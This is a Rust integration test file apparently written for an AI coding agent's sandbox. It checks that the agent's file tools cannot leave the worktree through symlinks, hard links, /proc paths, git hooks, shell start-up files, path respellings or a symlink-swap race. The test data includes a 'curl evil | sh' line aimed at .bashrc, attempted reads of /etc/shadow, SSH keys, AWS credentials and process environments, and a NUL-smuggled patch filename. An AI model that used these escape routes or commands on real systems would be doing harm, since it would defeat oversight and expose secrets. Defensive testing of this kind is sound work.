//! Path confinement of the runner's file tools, class by class (ATTACKS.md 1–13), with
//! the real binaries: every call goes ccctl → supervisor → gate → runner. The targets
//! outside are open to everyone, so that only confinement stands between the run and
//! them, and each test checks afterwards that nothing outside changed (content and
//! mtime, of files and of their directory).

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use cc_tests::fs::snapshot;
use cc_tests::runs::{Fixture, assert_refused, fixture, text};

/// What the outside directory holds, its own entry included (a file created and
/// removed in it would change the directory's mtime).
fn outside_state(dir: &Path) -> (std::collections::BTreeMap<PathBuf, String>, std::time::SystemTime) {
    (snapshot(dir), std::fs::metadata(dir).unwrap().modified().unwrap())
}

/// Every way to change a file, aimed at `path`; each must be refused.
fn assert_no_tool_writes(f: &Fixture, run: &str, path: &str) {
    assert_refused(&f.tool_stdin(run, &["write", path], "pwned\n"), "refused", &format!("write {path}"));
    assert_refused(
        &f.tool(run, &["edit", path, "--old", "secret", "--new", "pwned"]),
        "refused",
        &format!("edit {path}"),
    );
    let create = format!("--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+pwned\n");
    assert_refused(&f.tool_stdin(run, &["apply-patch"], &create), "refused", &format!("patch creating {path}"));
    let modify = format!("--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-secret\n+pwned\n");
    assert_refused(&f.tool_stdin(run, &["apply-patch"], &modify), "refused", &format!("patch modifying {path}"));
}

/// What the test makes in the worktree as root belongs to the run's user (the service
/// user, as root), as what the agent itself makes would.
fn give_to_run(copy: &Path, path: &Path) {
    use std::os::unix::fs::MetadataExt;
    let owner = std::fs::metadata(copy).unwrap();
    std::os::unix::fs::chown(path, Some(owner.uid()), Some(owner.gid())).unwrap();
}

#[test]
fn links_planted_in_the_worktree_never_lead_out() {
    let f = fixture(None);
    let run = f.start_run("chat");
    let outside = f.outside(&[("secret.txt", "secret\n")]);
    let copy = f.copy();
    symlink(&outside, copy.join("dir-link")).unwrap();
    symlink(outside.join("not-yet.txt"), copy.join("dangling")).unwrap();
    symlink("/proc/self/root", copy.join("proc-link")).unwrap();
    symlink("../../../..", copy.join("up-link")).unwrap(); // the data dir, relatively
    symlink("dir-link", copy.join("link-to-link")).unwrap();
    let before = outside_state(&outside);

    for path in
        ["dir-link/secret.txt", "link-to-link/secret.txt", "proc-link/etc/passwd", "up-link/state.db", "dangling"]
    {
        assert_refused(&f.tool(&run, &["read", path]), "refused", &format!("read {path}"));
    }
    // Class 2 and 3: through a link, to an existing file, a dangling target, a new
    // file under a linked ancestor, and into the data dir.
    for path in [
        "dir-link/secret.txt",
        "dangling",
        "dir-link/new/dir/file",
        "link-to-link/new.txt",
        "up-link/evil.txt",
        "proc-link/tmp/evil.txt",
    ] {
        assert_no_tool_writes(&f, &run, path);
    }
    for args in [["search", "secret", "--path", "dir-link"], ["find", "*", "--path", "link-to-link"]] {
        assert_refused(&f.tool(&run, &args), "refused", &args.join(" "));
    }
    // A walk of the whole worktree does not follow the links either.
    let hits = text(&f.tool(&run, &["search", "secret"])).0;
    assert!(!hits.contains("dir-link"), "{hits}");
    let found = text(&f.tool(&run, &["find", "**/secret.txt"])).0;
    assert!(found.trim().is_empty(), "{found}");

    // Class 9: the link removed and a directory of the same name made: writes now
    // land inside, and still nothing outside changes.
    std::fs::remove_file(copy.join("dir-link")).unwrap();
    std::fs::create_dir(copy.join("dir-link")).unwrap();
    give_to_run(&copy, &copy.join("dir-link"));
    let out = f.tool_stdin(&run, &["write", "dir-link/secret.txt"], "inside\n");
    assert!(out.status.success(), "{}", text(&out).1);
    assert_eq!(std::fs::read_to_string(copy.join("dir-link/secret.txt")).unwrap(), "inside\n");
    assert!(!outside.join("not-yet.txt").exists() && !outside.join("new").exists());
    assert_eq!(outside_state(&outside), before, "nothing outside changed");
    assert!(std::fs::symlink_metadata(copy.join("dangling")).unwrap().file_type().is_symlink(), "the link is kept");
}

#[test]
fn a_hard_link_to_an_outside_file_is_replaced_never_written_through() {
    let f = fixture(None);
    let run = f.start_run("chat");
    let outside = f.outside(&[("target.txt", "secret\n")]);
    let copy = f.copy();
    let before = outside_state(&outside);
    let relink = || {
        let _ = std::fs::remove_file(copy.join("hard.txt"));
        std::fs::hard_link(outside.join("target.txt"), copy.join("hard.txt")).unwrap();
    };
    relink();
    let out = f.tool_stdin(&run, &["write", "hard.txt"], "written\n");
    assert!(out.status.success(), "{}", text(&out).1);
    assert_eq!(std::fs::read_to_string(copy.join("hard.txt")).unwrap(), "written\n");
    relink();
    let out = f.tool(&run, &["edit", "hard.txt", "--old", "secret", "--new", "edited"]);
    assert!(out.status.success(), "{}", text(&out).1);
    assert_eq!(std::fs::read_to_string(copy.join("hard.txt")).unwrap(), "edited\n");
    relink();
    let patch = "--- a/hard.txt\n+++ b/hard.txt\n@@ -1 +1 @@\n-secret\n+patched\n";
    let out = f.tool_stdin(&run, &["apply-patch"], patch);
    assert!(out.status.success(), "{}", text(&out).1);
    assert_eq!(std::fs::read_to_string(copy.join("hard.txt")).unwrap(), "patched\n");
    assert_eq!(std::fs::read_to_string(outside.join("target.txt")).unwrap(), "secret\n");
    assert_eq!(outside_state(&outside), before, "the outside file was never written through its link");
}

#[test]
fn git_and_shell_code_execution_vectors_are_write_protected_however_spelled() {
    let f = fixture(None);
    let run = f.start_run("chat");
    let copy = f.copy();
    cc_tests::fs::git(&copy, &["init", "-q", "sub"]);
    symlink(".git", copy.join("git-link")).unwrap();
    // The first launch makes the vectors that are missing (`commondir`, `config.worktree`,
    // …) so that they can be mounted read-only; the run's envelope made ahead may not
    // have done so yet. One read first, so that the snapshots see the protected tree.
    let warm = f.tool(&run, &["read", ".git/HEAD"]);
    assert!(warm.status.success(), "{}", text(&warm).1);
    let git_before = snapshot(&copy.join(".git"));
    let sub_before = snapshot(&copy.join("sub/.git"));
    let abs = copy.to_str().unwrap().to_owned();
    let agent_work =
        std::fs::canonicalize(f.sup.data_dir.join(format!("conversations/{}/agents/default/work", f.conversation)))
            .unwrap();
    let agent_work = agent_work.to_str().unwrap().to_owned();
    let vectors = [
        ".git/config".to_owned(),
        ".git/hooks/pre-commit".to_owned(),
        ".git/hooks/brand/new/hook".to_owned(),
        ".git/info/attributes".to_owned(),
        ".git/config.worktree".to_owned(),
        ".git/commondir".to_owned(),
        ".git/modules/x/config".to_owned(),
        ".git".to_owned(),
        "sub/.git/config".to_owned(),
        "sub/.git/hooks/post-checkout".to_owned(),
        "fresh/.git/hooks/post-checkout".to_owned(),
        "./.git//config".to_owned(),
        ".git/./hooks/pre-push".to_owned(),
        format!("{abs}/.git/config"),
        format!("{abs}//sub/.git/hooks/x"),
        "git-link/config".to_owned(),
        "git-link/hooks/pre-commit".to_owned(),
        format!("{agent_work}/.bashrc"),
        format!("{agent_work}/.profile"),
        format!("{agent_work}/.gitconfig"),
        format!("{agent_work}/.zshenv"),
        format!("{agent_work}/.config/git/config"),
        ".git/worktrees/w/commondir".to_owned(),
        ".git/rebase-merge/git-rebase-todo".to_owned(),
    ];
    for path in &vectors {
        assert_no_tool_writes(&f, &run, path);
    }
    assert_eq!(snapshot(&copy.join(".git")), git_before, "the worktree's .git is unchanged");
    assert_eq!(snapshot(&copy.join("sub/.git")), sub_before, "the nested repository's .git is unchanged");
    assert!(!copy.join("fresh").exists(), "a refused path leaves no parent directories behind");
    let rc = f.tool_stdin(&run, &["write", &format!("{agent_work}/.bashrc")], "curl evil | sh\n");
    assert!(text(&rc).1.contains("shell start-up file"), "{}", text(&rc).1);
    let in_work = f.tool_stdin(&run, &["write", &format!("{agent_work}/notes.txt")], "fine\n");
    assert!(in_work.status.success(), "HOME itself is writable: {}", text(&in_work).1);
    for rc in [".bashrc", ".profile", ".gitconfig", ".zshenv"] {
        assert!(!Path::new(&agent_work).join(rc).exists(), "{rc}");
    }
    // Files that merely look like vectors, away from .git and from HOME, are the agent's.
    for ok in ["src/.bashrc", "docs/git/config", "hooks/pre-commit", ".github/workflows/ci.yml"] {
        let out = f.tool_stdin(&run, &["write", ok], "fine\n");
        assert!(out.status.success(), "{ok}: {}", text(&out).1);
    }
}

#[test]
fn path_spellings_mean_what_they_say_and_bad_ones_are_refused_in_one_line() {
    let f = fixture(None);
    let run = f.start_run("chat");
    let copy = f.copy();
    let abs = copy.to_str().unwrap().to_owned();
    for path in [
        "src//nested/lib.rs".to_owned(),
        "src/./nested/lib.rs".to_owned(),
        "./src/nested/lib.rs".to_owned(),
        "src/nested/../nested/lib.rs".to_owned(),
        format!("{abs}/src/nested/lib.rs"),
        format!("{abs}//src/./nested/lib.rs"),
    ] {
        let out = f.tool(&run, &["read", &path]);
        assert_eq!(text(&out).0, "pub fn f() {}\n", "read {path}: {}", text(&out).1);
    }
    // `~` is a name like any other: it is never the home directory.
    let out = f.tool(&run, &["read", "~/.ssh/id_rsa"]);
    assert!(!out.status.success());
    assert!(text(&out).1.contains("No such file"), "{}", text(&out).1);
    assert!(f.tool_stdin(&run, &["write", "~/note.txt"], "tilde\n").status.success());
    assert_eq!(std::fs::read_to_string(copy.join("~/note.txt")).unwrap(), "tilde\n");

    // Spaces and glob characters in real names.
    let odd = "dir with space/[a]*?{b,c}.txt";
    assert!(f.tool_stdin(&run, &["write", odd], "odd\n").status.success());
    assert!(f.tool(&run, &["edit", odd, "--old", "odd", "--new", "even"]).status.success());
    assert_eq!(std::fs::read_to_string(copy.join(odd)).unwrap(), "even\n");
    let found = text(&f.tool(&run, &["find", "dir with space/*"])).0;
    assert!(found.contains("[a]*?{b,c}.txt"), "{found}");
    assert!(!copy.join("dir with space/a.txt").exists() && !copy.join("dir with space/b.txt").exists());

    // Not UTF-8: written, read back and listed as the bytes they are.
    let latin1 = OsStr::from_bytes(b"caf\xe9.txt");
    let out = f.tool_os(&run, &[OsStr::new("write"), latin1]);
    assert!(out.status.success(), "{}", text(&out).1);
    assert!(copy.join(latin1).is_file());
    let out = f.tool_os(&run, &[OsStr::new("read"), latin1]);
    assert!(out.status.success(), "{}", text(&out).1);
    let found = text(&f.tool(&run, &["find", "caf*"])).0;
    assert!(found.contains("caf\u{fffd}.txt"), "listed, lossily shown: {found}");

    // Refused, one line each, and nothing is made.
    let long = "a/".repeat(2100) + "x.txt";
    let component = "n".repeat(300);
    let nul_patch = "--- /dev/null\n+++ b/evil\0name.txt\n@@ -0,0 +1 @@\n+x\n";
    assert_refused(&f.tool_stdin(&run, &["write", &long], "x\n"), "refused", "an over-long path");
    assert_refused(&f.tool(&run, &["read", &long]), "refused", "an over-long path");
    let out = f.tool_stdin(&run, &["apply-patch"], nul_patch);
    assert!(!out.status.success() && text(&out).1.contains("invalid char"), "{}", text(&out).1);
    assert_refused(&f.tool_stdin(&run, &["write", "src/../../x.txt"], "x\n"), "refused", "`..` out");
    let out = f.tool_stdin(&run, &["write", &component], "x\n");
    assert!(!out.status.success());
    assert_eq!(text(&out).1.trim_end().lines().count(), 1, "{}", text(&out).1);
    assert!(!copy.join("a").exists() && !copy.join("evil").exists());
    let trailing = f.tool(&run, &["read", "src/nested/lib.rs/"]);
    assert!(!trailing.status.success(), "a trailing slash names a directory: {}", text(&trailing).0);
    assert_eq!(text(&trailing).1.trim_end().lines().count(), 1, "{}", text(&trailing).1);
}

#[test]
fn secrets_the_data_dir_and_host_processes_are_unreachable() {
    let f = fixture(None);
    let run = f.start_run("chat");
    let copy = f.copy();
    let data = std::fs::canonicalize(&f.sup.data_dir).unwrap();
    let out = f.sup.ccctl(&["conversation", "new", "--repo", "demo", "--worktree-backend", "copy"]);
    let sibling = data.join(format!("conversations/{}/repos/demo", text(&out).0.trim()));
    assert!(sibling.join("README.md").exists());
    let supervisor = f.sup.child.id();
    symlink(format!("/proc/{supervisor}/environ"), copy.join("environ-link")).unwrap();
    symlink("/proc/self/fd/0", copy.join("fd-link")).unwrap();
    let d = data.display();
    let c = copy.display();
    let secrets = [
        format!("{d}/state.db"),
        format!("{d}/sock/api.sock"),
        format!("{c}/../../../../state.db"),
        format!("{}/README.md", sibling.display()),
        format!("/proc/{supervisor}/environ"),
        format!("/proc/{supervisor}/cwd/state.db"),
        format!("/proc/{supervisor}/root/etc/shadow"),
        "/proc/self/cwd/../../../../state.db".to_owned(),
        "/proc/self/environ".to_owned(),
        "/proc/self/fd/0".to_owned(),
        "/root/.ssh/id_rsa".to_owned(),
        "/root/.aws/credentials".to_owned(),
        "/root/.netrc".to_owned(),
        "/etc/shadow".to_owned(),
        "environ-link".to_owned(),
        "fd-link".to_owned(),
        "../../../../state.db".to_owned(),
    ];
    for path in &secrets {
        assert_refused(&f.tool(&run, &["read", path]), "refused", &format!("read {path}"));
    }
    for path in [format!("{d}/evil.txt"), format!("{}/README.md", sibling.display()), format!("{d}/sock/api.sock")] {
        assert_refused(&f.tool_stdin(&run, &["write", &path], "x\n"), "refused", &format!("write {path}"));
    }
    for start in [d.to_string(), "/proc".to_owned(), "/root".to_owned(), sibling.display().to_string()] {
        assert_refused(&f.tool(&run, &["search", "a", "--path", &start]), "refused", &format!("search in {start}"));
        assert_refused(&f.tool(&run, &["find", "*", "--path", &start]), "refused", &format!("find in {start}"));
    }
    assert!(!data.join("evil.txt").exists());
    assert_eq!(std::fs::read_to_string(sibling.join("README.md")).unwrap(), "# demo\n");
}

/// ATTACKS 11: a directory of the worktree swapped for a symlink to an outside
/// directory, over and over, while the tools read and write beneath it.
#[test]
fn a_directory_swapped_for_a_symlink_in_a_tight_loop_never_lets_a_call_out() {
    let f = fixture(None);
    let run = f.start_run("chat");
    let outside = f.outside(&[("secret.txt", "secret\n")]);
    let copy = f.copy();
    let (real, link, swap) = (copy.join("real"), copy.join("link"), copy.join("swap"));
    std::fs::create_dir(&real).unwrap();
    std::fs::write(real.join("secret.txt"), "inside\n").unwrap();
    give_to_run(&copy, &real);
    give_to_run(&copy, &real.join("secret.txt"));
    symlink(&outside, &link).unwrap();
    let before = outside_state(&outside);

    let stop = Arc::new(AtomicBool::new(false));
    let swapper = {
        let stop = stop.clone();
        let (real, link, swap) = (real.clone(), link.clone(), swap.clone());
        std::thread::spawn(move || {
            let mut swaps = 0u64;
            while !stop.load(Ordering::Relaxed) {
                // Each rename is atomic: `swap` is the directory, nothing, the link, nothing.
                let _ = std::fs::rename(&real, &swap);
                let _ = std::fs::rename(&swap, &real);
                let _ = std::fs::rename(&link, &swap);
                let _ = std::fs::rename(&swap, &link);
                // A write may have made `swap` while it was absent: clear it away.
                if std::fs::symlink_metadata(&swap).is_ok_and(|m| m.is_dir()) && real.exists() {
                    let _ = std::fs::remove_dir_all(&swap);
                }
                swaps += 1;
            }
            swaps
        })
    };
    let (mut wrote, mut refused) = (0, 0);
    for i in 0..60 {
        let write = f.tool_stdin(&run, &["write", &format!("swap/w{i}.txt")], "x\n");
        let read = f.tool(&run, &["read", "swap/secret.txt"]);
        assert_ne!(text(&read).0, "secret\n", "a read got out through the swapped link");
        let edit = f.tool(&run, &["edit", "swap/secret.txt", "--old", "secret", "--new", "pwned"]);
        assert!(!edit.status.success(), "only the outside file holds `secret`: an edit that worked got out");
        let patch = format!("--- /dev/null\n+++ b/swap/p{i}.txt\n@@ -0,0 +1 @@\n+x\n");
        let patched = f.tool_stdin(&run, &["apply-patch"], &patch);
        for out in [&write, &read, &edit, &patched] {
            if out.status.success() {
                wrote += 1;
            } else if out.status.code() == Some(125) {
                refused += 1;
            }
            assert!(out.status.code() != Some(101), "no panic: {}", text(out).1);
        }
    }
    stop.store(true, Ordering::Relaxed);
    let swaps = swapper.join().unwrap();
    assert!(swaps > 100, "the swap loop ran ({swaps} swaps)");
    assert!(wrote > 0 && refused > 0, "the race was exercised: {wrote} succeeded, {refused} refused");
    assert_eq!(outside_state(&outside), before, "nothing outside was ever touched");
    assert_eq!(std::fs::read_to_string(outside.join("secret.txt")).unwrap(), "secret\n");
}

/// A path rule judges the path, not its spelling: `./`, `//`, `..` and the absolute
/// form of a path under `secret/` are all denied by a rule on `secret/**`.
#[test]
fn a_path_rule_cannot_be_spelled_around() {
    let rules_dir = tempfile::tempdir().unwrap();
    let rules = rules_dir.path().join("rules.toml");
    std::fs::write(
        &rules,
        "[[rule]]\neffect = \"write_file\"\npath = \"secret/**\"\ndecision = \"deny\"\nreason = \"secret/ is off limits\"\n",
    )
    .unwrap();
    let f = fixture(Some(&format!("[gate]\nrules = \"{}\"\n", rules.display())));
    let run = f.start_run("chat");
    let copy = f.copy();
    let abs = copy.display();
    for path in [
        "secret/x".to_owned(),
        "./secret/x".to_owned(),
        "secret//x".to_owned(),
        "secret/./x".to_owned(),
        "src/../secret/x".to_owned(),
        format!("{abs}/secret/x"),
        format!("{abs}//./secret/x"),
    ] {
        let out = f.tool_stdin(&run, &["write", &path], "x\n");
        assert_refused(&out, "denied", &format!("write {path}"));
        assert!(text(&out).1.contains("secret/ is off limits"), "{}", text(&out).1);
        let patch = format!("--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+x\n");
        assert_refused(&f.tool_stdin(&run, &["apply-patch"], &patch), "denied", &format!("patch {path}"));
    }
    // A quoted name would be decoded by the runner's parser and not by the gate's rules.
    let quoted = "--- /dev/null\n+++ \"b/secret/x\"\n@@ -0,0 +1 @@\n+x\n";
    let out = f.tool_stdin(&run, &["apply-patch"], quoted);
    assert!(!out.status.success() && text(&out).1.contains("quoted"), "{}", text(&out).1);
    assert!(!copy.join("secret").exists());
    assert!(f.tool_stdin(&run, &["write", "public/x"], "x\n").status.success());
}
